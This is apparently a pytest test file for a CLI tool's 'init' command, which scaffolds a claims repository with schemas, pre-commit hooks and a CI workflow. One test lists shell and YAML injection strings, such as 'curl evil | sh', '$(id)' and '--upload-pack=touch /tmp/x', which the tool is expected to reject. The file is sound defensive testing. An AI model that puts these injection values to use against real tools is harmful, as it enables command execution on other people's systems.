"""claimtrack init: what it writes, that check passes on it, what it refuses; and the --root messages."""

from __future__ import annotations

from pathlib import Path

import pytest
from ruamel.yaml import YAML
from typer.testing import CliRunner

from claimtrack import __version__
from claimtrack.authoring.new_repository import HookKind, InitOptions, pre_commit_config, starter_text
from claimtrack.cli import app
from claimtrack.model.vocabulary import PropertyFile

runner = CliRunner()
PROJECT = Path(__file__).resolve().parents[1]
WRITTEN = [
    "claims/",
    "sources/",
    "vocabulary/entities/",
    "README.md",
    ".gitignore",
    "vocabulary/properties.yaml",
    "schemas/claim.schema.json",
    "schemas/source.schema.json",
    "schemas/properties.schema.json",
    "schemas/entities.schema.json",
    ".pre-commit-config.yaml",
    ".github/workflows/claimtrack.yml",
]


INDEX_INSTALL = (
    f"claimtrack is installed from version {__version__} from the package index\n"
    f"  workflow and README: pip install claimtrack=={__version__}\n"
    "  hooks: pre-commit installs claimtrack by that requirement; no environment needs to be active\n"
    "  to change it: delete .pre-commit-config.yaml and .github/workflows/claimtrack.yml, and run init again with "
    "--git URL --rev REV or --hooks local\n"
)


def invoke(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.output


def test_init_writes_a_repository_that_passes_every_check(tmp_path: Path) -> None:
    folder = tmp_path / "claims-repo"
    code, output = invoke("init", str(folder))
    assert code == 0
    assert output == "".join(f"wrote {path}\n" for path in WRITTEN) + INDEX_INSTALL + (
        f"claims repository ready in {folder}: add a source with 'claimtrack source add', "
        "then a claim with 'claimtrack new'\n"
    )
    root = ["--root", str(folder)]
    assert invoke("check", *root) == (
        0,
        "passed: 0 claims checked; 0 open error(s), 0 open warning(s) or note(s), 0 acknowledged finding(s)\n",
    )
    assert invoke("validate", *root) == (0, "1 file valid\n")
    assert invoke("fmt", "--check", *root)[0] == 0
    assert invoke("schema", "--check", *root) == (0, "schemas are up to date\n")
    assert (folder / ".gitignore").read_text(encoding="utf-8").splitlines()[-1] == ".claimtrack_cache/"


def test_init_never_overwrites_and_says_what_it_skipped(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("Our own.\n", encoding="utf-8")
    (tmp_path / "claims").mkdir()
    code, output = invoke("init", str(tmp_path), "--no-workflow")
    assert code == 0
    assert "skipped claims/: it exists\n" in output
    assert "skipped README.md: it exists\n" in output
    assert "wrote .github" not in output
    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "Our own.\n"
    code, again = invoke("init", str(tmp_path), "--no-workflow", "--no-pre-commit")
    assert code == 0
    assert "wrote" not in again
    assert not (tmp_path / ".github").exists()


def test_starter_vocabulary_is_general_and_documented() -> None:
    data = YAML(typ="safe").load(starter_text("properties.yaml"))
    vocabulary = PropertyFile.model_validate(data, strict=False)
    ids = {p.id for p in vocabulary.properties}
    for prop in vocabulary.properties:
        assert prop.description, prop.id
        assert "\n" not in prop.description.strip(), prop.id
        assert set(prop.not_before) <= ids, prop.id
    orders = {p.id: set(p.not_before) for p in vocabulary.properties if p.not_before}
    assert orders == {
        "ended_on": {"started_on"},
        "ratified_on": {"signed_on"},
        "entered_into_force_on": {"signed_on"},
        "dissolved_on": {"founded_on"},
        "died_on": {"born_on"},
    }


def test_workflow_installs_a_pinned_version_or_a_git_reference(tmp_path: Path) -> None:
    workflow = tmp_path / "index" / ".github/workflows/claimtrack.yml"
    invoke("init", str(tmp_path / "index"))
    assert f"run: python -m pip install claimtrack=={__version__}\n" in workflow.read_text(encoding="utf-8")
    invoke("init", str(tmp_path), "--git", "https://example.org/team/claimtrack.git", "--rev", "abc123")
    workflow = tmp_path / ".github/workflows/claimtrack.yml"
    assert "run: python -m pip install 'claimtrack @ git+https://example.org/team/claimtrack.git@abc123'" in (
        workflow.read_text(encoding="utf-8")
    )
    config = YAML(typ="safe").load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert config["repos"] == [
        {
            "repo": "https://example.org/team/claimtrack.git",
            "rev": "abc123",
            "hooks": [{"id": "claimtrack-validate"}, {"id": "claimtrack-fmt"}, {"id": "claimtrack-check"}],
        }
    ]


def _hooks(hooks: HookKind) -> list[dict[str, object]]:
    text = pre_commit_config(InitOptions(hooks=hooks))
    found: list[dict[str, object]] = YAML(typ="safe").load(text)["repos"][0]["hooks"]
    return found


@pytest.mark.parametrize("hooks", list(HookKind))
def test_local_hooks_are_claimtracks_hooks(hooks: HookKind) -> None:
    """The hooks init writes without a repository to clone run what the project's .pre-commit-hooks.yaml
    defines, with the same files."""
    published = {h["id"]: h for h in YAML(typ="safe").load((PROJECT / ".pre-commit-hooks.yaml").read_text("utf-8"))}
    local = _hooks(hooks)
    assert [h["id"] for h in local] == ["claimtrack-validate", "claimtrack-fmt", "claimtrack-check"]
    for hook in local:
        expected = published[str(hook["id"])]
        for key in ("entry", "files", "pass_filenames", "always_run", "require_serial"):
            assert hook.get(key) == expected.get(key), (hook["id"], key)


def test_rev_needs_git(tmp_path: Path) -> None:
    code, output = invoke("init", str(tmp_path), "--rev", "v1")
    assert (code, output) == (2, "claimtrack: --rev needs --git\n")


def test_root_that_is_not_a_repository_says_what_is_missing(tmp_path: Path) -> None:
    code, output = invoke("check", "--root", str(tmp_path))
    assert code == 2
    assert output == (
        f"claimtrack: --root {tmp_path} is not a claims repository: it holds no claims/, sources/ or vocabulary/; "
        f"run 'claimtrack init {tmp_path}' to make one there\n"
    )
    missing = tmp_path / "nowhere"
    assert invoke("validate", "--root", str(missing)) == (
        2,
        f"claimtrack: --root {missing}: no such folder; 'claimtrack init {missing}' makes a claims repository there\n",
    )


def test_no_repository_here_suggests_init(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, output = invoke("check")
    assert code == 2
    assert output == (
        f"claimtrack: no claims repository here: no folder from {tmp_path.name} upwards holds claims/, sources/ "
        "or vocabulary/; run 'claimtrack init' to make one here, or name one with --root\n"
    )


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--git", 'https://example.org/x.git"; curl evil | sh; echo "'),
        ("--git", "https://example.org/$(id).git"),
        ("--git", "https://example.org/x.git #comment"),
        ("--git", "--upload-pack=touch /tmp/x"),
        ("--git", "https://example.org/x.git\nrun: evil"),
        ("--rev", "v1`id`"),
        ("--rev", "v1 #"),
        ("--rev", "-v1"),
        ("--rev", "v1..v2"),
        ("--rev", "refs/.hidden"),
        ("--rev", "main.lock"),
        ("--rev", "yes'\n  - repo: evil"),
    ],
)
def test_init_refuses_a_git_source_a_shell_or_yaml_would_read_as_syntax(
    tmp_path: Path, option: str, value: str
) -> None:
    """Issue 28, item 14: --git and --rev were pasted raw into the workflow's shell line and into YAML."""
    args = ["--git", value] if option == "--git" else ["--git", "https://example.org/x.git", "--rev", value]
    code, output = invoke("init", str(tmp_path / "new"), *args)
    assert code == 2
    assert output.startswith(f"claimtrack: {option} "), output
    assert output.count("\n") == 1
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize(
    ("url", "rev"),
    [
        ("https://github.com/team/claimtrack.git", "v1.2.0"),
        ("git@github.com:team/claimtrack.git", "0123456789abcdef0123456789abcdef01234567"),
        ("ssh://git@host.example/team/claimtrack", "release/2026-12"),
        ("file:///srv/git/claimtrack", "main"),
    ],
)
def test_init_accepts_the_forms_git_and_pip_take(tmp_path: Path, url: str, rev: str) -> None:
    code, output = invoke("init", str(tmp_path), "--git", url, "--rev", rev)
    assert code == 0, output
    config = YAML(typ="safe").load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert (config["repos"][0]["repo"], config["repos"][0]["rev"]) == (url, rev)
    workflow = (tmp_path / ".github/workflows/claimtrack.yml").read_text(encoding="utf-8")
    installed = url.replace("git@github.com:", "ssh://git@github.com/")  # pip needs a scheme
    assert f"run: python -m pip install 'claimtrack @ git+{installed}@{rev}'" in workflow
